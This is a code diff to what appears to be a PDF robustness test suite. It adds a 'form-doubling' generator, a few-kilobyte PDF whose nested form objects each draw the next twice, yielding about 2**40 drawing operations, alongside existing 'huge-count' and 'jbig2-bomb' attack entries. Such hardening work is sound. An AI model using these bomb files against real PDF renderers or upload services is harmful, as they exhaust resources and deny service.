@@ -140,6 +140,20 @@ def nested_forms_100():
     return nested_forms(100, draw=True)
 
 
+def form_doubling(depth=40):
+    """`depth` forms, each drawing the next twice: 2**depth drawings from a few kilobytes."""
+    first = 6
+    objects = one_page(content=b"/X Do\n" + TEXT, resources=b"/Font<</F1 4 0 R>>/XObject<</X %d 0 R>>" % first)
+    for level in range(depth):
+        number = first + level
+        if level + 1 < depth:
+            objects.append(stream(b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X %d 0 R>>>>"
+                                  % (number + 1), b"/X Do /X Do"))
+        else:
+            objects.append(stream(b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]", b"0 0 1 1 re f"))
+    return write_pdf(objects)
+
+
 def huge_count(count=1_000_000_000):
     """One real page; /Pages says `count`."""
     return write_pdf(one_page(count=b"%d" % count))
@@ -438,6 +452,7 @@ ATTACKS = {
     "nested-resources": (nested_resources, "pdf"),
     "nested-forms": (nested_forms, "pdf"),
     "nested-forms-100": (nested_forms_100, "pdf"),
+    "form-doubling": (form_doubling, "pdf"),
     "huge-count": (huge_count, "pdf"),
     "negative-count": (negative_count, "pdf"),
     "jbig2-bomb": (jbig2_bomb, "pdf"),
